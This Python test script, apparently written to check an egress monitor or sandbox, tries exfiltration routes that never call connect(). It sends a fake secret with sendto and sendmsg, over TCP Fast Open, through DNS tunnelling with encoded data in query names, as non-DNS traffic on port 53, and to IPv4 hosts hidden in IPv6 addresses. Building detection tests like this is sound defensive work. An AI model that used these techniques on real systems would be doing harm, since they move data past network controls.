#!/usr/bin/env python3
"""Exfiltration shapes that never call connect(): each send goes to an
outside address given per datagram (sendto, sendmsg), a DNS query to a
hard-coded resolver, and a TCP Fast Open sendto on a socket never connected.
Data sent to port 53 that is not a DNS query. Also addresses that hide an IPv4 host: IPv4-mapped IPv6, NAT64, 6to4.
Run in a network namespace with only lo: every send fails (ENETUNREACH),
which is the capture we want. The payload is fake."""
import socket, struct, sys

loot = b"user=nobody;key=FAKE-" + b"A" * 16

def dns_query(name):
    q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\x00\x00\x01\x00\x01"

def attempt(what, fn):
    try:
        fn()
        print(what, "sent")
    except OSError as e:
        print(what, "failed", e.errno)

def main(which):
    if which in ("all", "sendto"):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        attempt("sendto 203.0.113.5:443", lambda: s.sendto(loot, ("203.0.113.5", 443)))
    if which in ("all", "sendmsg"):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        attempt("sendmsg 203.0.113.5:4444", lambda: s.sendmsg([loot], [], 0, ("203.0.113.5", 4444)))
    if which in ("all", "dns"):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        attempt("dns 8.8.8.8", lambda: s.sendto(dns_query("bm9ib2R5.exfil.example.com"), ("8.8.8.8", 53)))
    if which in ("all", "port53"):
        # Data, not a DNS query, sent to port 53: what egress filters let through as DNS.
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        attempt("sendto 203.0.113.5:53", lambda: s.sendto(loot, ("203.0.113.5", 53)))
        attempt("sendmsg 203.0.113.5:53", lambda: s.sendmsg([loot], [], 0, ("203.0.113.5", 53)))
        # A real query of the loot to the same server: DNS, with the data in the name.
        attempt("dns 203.0.113.5", lambda: s.sendto(dns_query("dXNlcj1ub2JvZHk.t.example.net"), ("203.0.113.5", 53)))
    if which in ("all", "tfo"):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        attempt("tfo 203.0.113.5:443", lambda: s.sendto(loot, socket.MSG_FASTOPEN, ("203.0.113.5", 443)))
    if which in ("all", "mapped"):
        for addr in ("::ffff:203.0.113.5", "64:ff9b::cb00:7105", "2002:cb00:7105::1"):
            s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
            attempt("connect [%s]:443" % addr, lambda: s.connect((addr, 443)))
            s.close()
        s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        attempt("sendto [::ffff:203.0.113.5]:53", lambda: s.sendto(loot, ("::ffff:203.0.113.5", 53)))
    if which in ("all", "linklocal"):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        attempt("connect 169.254.10.20:80", lambda: s.connect(("169.254.10.20", 80)))

main(sys.argv[1] if len(sys.argv) > 1 else "all")
